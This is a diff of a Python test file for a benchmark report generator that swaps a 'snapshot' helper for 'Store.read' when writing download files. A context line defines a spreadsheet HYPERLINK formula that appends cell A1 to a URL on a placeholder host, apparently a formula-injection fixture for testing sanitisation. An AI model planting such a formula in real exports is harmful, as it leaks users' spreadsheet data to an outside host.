@@ -32,7 +32,6 @@ from bench.report.content import ClipMedia, Content
 from bench.report.doses import read_doses
 from bench.report.downloads import comparison_records, leaderboard_records, write_downloads
 from bench.report.pairs import pairs
-from bench.report.snapshot import snapshot
 from bench.store import Store
 from bench.survey.analysis import analyse, record
 from bench.survey.reading import read_survey
@@ -42,7 +41,7 @@ FORMULA = '=HYPERLINK("http://x.invalid/?"&A1,"<b>listen</b>")'
 
 
 def gather(run: Path, media: dict[str, ClipMedia | str], **files: Path) -> Content:
-    with snapshot(run) as store:
+    with Store.read(run) as store:
         return gathering.gather(store, media, **files)
 
 
@@ -289,7 +288,7 @@ def test_methods_of_sets_that_are_compared_with_nothing(small: Callable[..., Pat
     assert "jackknife interval" in text
     assert "reference" not in text
     assert [column.ref for column in content.columns] == ["diversity[embedder=Bands]@1"]
-    with snapshot(run) as store:
+    with Store.read(run) as store:
         write_downloads(content, store, tmp_path)
     for file in (tmp_path / "data").iterdir():
         assert str(tiny.parent) not in file.read_text(), file.name
